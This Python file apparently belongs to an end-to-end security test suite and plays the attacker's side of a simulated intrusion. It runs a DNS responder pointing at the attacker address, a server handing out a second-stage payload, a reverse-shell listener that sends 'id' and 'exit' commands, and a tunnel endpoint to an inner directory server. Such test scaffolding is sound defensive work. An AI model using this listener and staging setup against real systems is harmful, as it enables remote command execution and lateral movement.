# SPDX-License-Identifier: Apache-2.0
# The attacker's side of tests/e2e/attack.sh, and one inner host: a name server, a web server that
# has the second stage, who waits for the shell, the far end of the tunnel, and an inner directory
# server. Writes "ready" when all listen, then one fact ("name value") a line as it learns them.
import http.server
import socket
import struct
import sys
import threading

resolver, attacker, inner, stage = sys.argv[1:5]
lock = threading.Lock()


def fact(name, value):
    with lock:
        print(name, value, flush=True)


def listen(address, port):
    s = socket.socket()
    s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    s.bind((address, port))
    s.listen(8)
    return s


def names(s):
    while True:
        q, peer = s.recvfrom(2048)
        fact('dns_port', peer[1])
        end = q.index(b'\0', 12) + 5
        kind = struct.unpack('>H', q[end - 4:end - 2])[0]
        a = b'' if kind != 1 else b'\xc0\x0c\0\1\0\1\0\0\0\x3c\0\4' + socket.inet_aton(attacker)
        s.sendto(q[:2] + b'\x85\x80\0\1' + struct.pack('>H', bool(a)) + b'\0\0\0\0' + q[12:end] + a, peer)


class Stage(http.server.BaseHTTPRequestHandler):
    def do_GET(self):
        with open(stage, 'rb') as f:
            body = f.read()
        fact('stage_port', self.client_address[1])
        self.send_response(200)
        self.send_header('Content-Length', str(len(body)))
        self.end_headers()
        self.wfile.write(body)

    def log_message(self, *_):
        pass


def shell(s):
    c, peer = s.accept()
    fact('shell_port', peer[1])
    c.sendall(b'id\nexit\n')
    got = b''
    while True:
        b = c.recv(4096)
        if not b:
            break
        got += b
    fact('shell_got', len(got))
    fact('shell_id', int(b'uid=389(tomcat)' in got))


def far_end(s):
    c, peer = s.accept()
    fact('tunnel_port', peer[1])
    c.sendall(b'q' * 1000)
    got = 0
    while got < 30000:
        got += len(c.recv(4096))
    fact('tunnel_got', got)
    c.close()


def directory(s):
    c, peer = s.accept()
    fact('inner_port', peer[1])
    got = 0
    while got < 1000:
        got += len(c.recv(4096))
    c.sendall(b'a' * 30000)
    while c.recv(4096):
        pass
    fact('inner_got', got)


udp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
udp.bind((resolver, 53))
web = http.server.ThreadingHTTPServer((attacker, 80), Stage)
jobs = [(names, udp), (shell, listen(attacker, 443)), (far_end, listen(attacker, 7000)),
        (directory, listen(inner, 389))]
for job, s in jobs:
    threading.Thread(target=job, args=(s,), daemon=True).start()
print('ready', flush=True)
web.serve_forever()
